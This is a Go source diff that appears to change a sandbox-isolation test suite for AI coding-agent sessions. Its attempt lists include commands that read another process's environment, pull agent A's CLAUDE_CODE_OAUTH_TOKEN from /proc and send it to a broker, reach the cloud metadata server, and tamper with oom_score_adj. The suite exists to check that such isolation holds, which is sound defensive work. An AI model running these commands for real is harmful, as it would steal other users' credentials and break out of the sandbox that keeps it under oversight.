@@ -18,11 +18,11 @@ func attempts() []attempt {
 	for _, target := range []struct{ name, host, port string }{
 		{"the instance", "127.0.0.1", "$SERVICE_PORT"}, {"Redis", "127.0.0.1", "$REDIS_PORT"},
 		{"the Firestore emulator", "127.0.0.1", "$EMULATOR_PORT"}, {"another instance", "127.0.0.1", "$OTHER_PORT"},
-		{"the metadata server", "$META", "$META_PORT"},
+		{"the metadata server", "$META", "$META_PORT"}, {"A's port at the broker", "$A_BROKER", "$A_BROKER_PORT"},
 	} {
 		for _, how := range []string{"tcp", "mptcp", "fastopen", "fastopen-connect", "udp"} {
-			if how == "udp" && target.name == "the instance" {
-				continue // it has no UDP, so there would be no control
+			if how == "udp" && (target.name == "the instance" || target.port == "$A_BROKER_PORT") {
+				continue // they have no UDP, so there would be no control
 			}
 			all = append(all, attempt{name: "reach " + target.name + " by " + how, command: "$TOOL " + how + " " + target.host + " " + target.port})
 		}
@@ -81,7 +81,7 @@ var direct = []attempt{
 	{name: "read the service's environment", command: `cat /proc/$SERVICE/environ`},
 	{name: "list the service's files", command: `ls /proc/$SERVICE/fd`},
 	{name: "write A's oom_score_adj", command: `cat /proc/$A_PID/oom_score_adj > s && cat s > /proc/$A_PID/oom_score_adj`},
-	{name: "take A's secret to the broker", command: `s=$(tr "\0" "\n" < /proc/$A_PID/environ | grep ^CLAUDE_CODE_OAUTH_TOKEN= | cut -d= -f2) && $TOOL broker $ANTHROPIC_BASE_URL "$s"`},
+	{name: "take A's secret to the broker", command: `s=$(tr "\0" "\n" < /proc/$A_PID/environ | grep ^CLAUDE_CODE_OAUTH_TOKEN= | cut -d= -f2) && $TOOL broker http://$A_BROKER:$A_BROKER_PORT "$s"`},
 	{name: "call the API with a guessed secret", command: `$TOOL broker $ANTHROPIC_BASE_URL cp-00`, control: ownCall},
 	{name: "call the API with no secret", command: `$TOOL broker $ANTHROPIC_BASE_URL ""`, control: ownCall},
 	{name: "call what the broker doesn't pass on", command: `$TOOL get $ANTHROPIC_BASE_URL/v1/models`, control: `$TOOL get http://$META:$META_PORT/`},
@@ -141,6 +141,6 @@ var ownAbilities = []attempt{
 	{name: "use its home and its temp folder", command: `touch ~/x $TMPDIR/x && rm ~/x $TMPDIR/x`},
 	{name: "signal its own", command: `sleep 10 & kill -9 $!`},
 	{name: "use pipes of bash", command: `cat <(echo hi) | grep hi`},
-	{name: "reach the broker", command: `$TOOL tcp 127.0.0.1 ${ANTHROPIC_BASE_URL##*:}`},
+	{name: "reach the broker", command: `b=${ANTHROPIC_BASE_URL#http://}; $TOOL tcp ${b%:*} ${b#*:}`},
 	{name: "run git", command: `git init -q repository && cd repository && git add . && git -c user.name=b -c user.email=b@b commit -qm x --allow-empty`},
 }
